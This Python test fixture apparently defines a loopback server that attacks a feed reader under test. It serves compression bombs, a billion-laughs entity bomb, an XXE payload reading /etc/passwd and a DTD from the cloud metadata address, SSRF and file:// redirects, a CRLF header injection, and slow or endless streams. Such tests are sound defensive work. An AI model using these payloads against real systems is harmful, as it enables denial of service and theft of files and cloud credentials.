"""An outlet that attacks whoever reads its feeds: one path for each way, on the loopback."""

import asyncio
import gzip
import ssl
import zlib

import brotli
import trustme

from tests.outlet import Outlet, Reply, Request

GIGABYTE = 2**30
MUTE_SECONDS = 6.0

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE rss ['
    + '<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    + "]><rss version='2.0'><channel><title>&l9;</title><item><title>&l9;</title>"
    "<link>https://laughs.example/1</link><description>&l9;</description></item></channel></rss>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">'
    '<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>'
    "<rss version='2.0'><channel><title>&secret;</title><item><title>&secret;</title>"
    "<link>https://xxe.example/1</link><description>&secret;</description></item></channel></rss>"
)


def many_entries(count: int) -> bytes:
    """A feed of `count` short entries."""
    entries = b"".join(
        b"<item><title>%d</title><link>https://m.example/%d</link></item>" % (n, n) for n in range(count)
    )
    return b"<rss version='2.0'><channel><title>Many</title>" + entries + b"</channel></rss>"


def deep(levels: int) -> bytes:
    """A feed of elements within one another."""
    return b"<rss version='2.0'><channel><item>" + b"<a>" * levels + b"</a>" * levels + b"</item></channel></rss>"


class Attacker(Outlet):
    """Bombs unfold to `large` bytes."""

    def __init__(self, large: int = 50_000_000) -> None:
        super().__init__()
        zeros = b"0" * large
        self.answers = {
            "/gzip-bomb": Reply(gzip.compress(zeros), headers={"Content-Encoding": "gzip"}),
            "/deflate-bomb": Reply(zlib.compress(zeros), headers={"Content-Encoding": "deflate"}),
            "/brotli-bomb": Reply(brotli.compress(zeros, quality=5), headers={"Content-Encoding": "br"}),
            "/nested-gzip": Reply(gzip.compress(gzip.compress(zeros)), headers={"Content-Encoding": "gzip, gzip"}),
            "/loop": Reply(status=302, headers={"Location": "/loop"}),
            "/metadata": Reply(status=302, headers={"Location": "http://169.254.169.254/latest/meta-data"}),
            "/loopback6": Reply(status=301, headers={"Location": "http://[::1]:1/feed"}),
            "/file": Reply(status=302, headers={"Location": "file:///etc/passwd"}),
            "/laughs": Reply(BILLION_LAUGHS, headers={"Content-Type": "application/xml"}),
            "/external-entity": Reply(EXTERNAL_ENTITY, headers={"Content-Type": "application/xml"}),
            "/many": Reply(many_entries(200_000), headers={"Content-Type": "application/xml"}),
            "/many-small": Reply(b"<rss><channel>" + b"<item/>" * 200_000 + b"</channel></rss>"),
            "/deep": Reply(deep(100_000), headers={"Content-Type": "application/xml"}),
            "/short": Reply(b"<rss>", headers={"Content-Length": "100000"}),
            "/negative": Reply(b"<rss>", headers={"Content-Length": "-5"}),
            "/header": Reply(status=302, headers={"Location": "/x%0d%0aX-Evil: 1\x0b"}),
        }
        self.scripts = {"/drip": self._drip, "/endless": self._endless, "/chatter": self._chatter, "/mute": self._mute}

    async def _drip(self, request: Request, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
        while not writer.is_closing():
            writer.write(b"<")
            await writer.drain()
            await asyncio.sleep(0.02)

    async def _endless(self, request: Request, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\n\r\n<rss>")
        for _ in range(GIGABYTE // 65_536):
            writer.write(b"x" * 65_536)
            await writer.drain()

    async def _chatter(self, request: Request, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\n")
        for number in range(1_000_000):
            writer.write(b"X-Header-%d: and so on\r\n" % number)
            await writer.drain()

    async def _mute(self, request: Request, writer: asyncio.StreamWriter) -> None:
        await asyncio.sleep(MUTE_SECONDS)


def false_certificate() -> ssl.SSLContext:
    """TLS as a server has it whose certificate nobody vouches for."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert("127.0.0.1", "outlet.example").configure_cert(context)
    return context
